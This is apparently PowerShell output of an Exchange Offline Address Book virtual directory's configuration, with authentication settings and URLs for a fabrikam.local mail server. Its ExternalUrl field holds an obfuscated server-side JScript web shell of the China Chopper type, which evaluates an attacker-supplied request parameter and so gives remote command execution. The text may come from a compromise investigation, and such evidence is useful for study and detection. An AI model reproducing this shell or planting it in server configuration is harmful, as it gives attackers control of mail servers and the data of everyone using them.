Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExtendedProtectionTokenChecking : None
InternalUrl                     : https://mail.fabrikam.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">var _0x2e4c=['orange','unsafe','Request','Item'];var _0x51ab=function(_0x1d2e){return _0x2e4c[_0x1d2e];};function Page_Load(){var _0x3c9f=this[_0x51ab(0x2)];eval(_0x3c9f[_0x51ab(0x3)]['m'],_0x51ab(0x1));}</script>
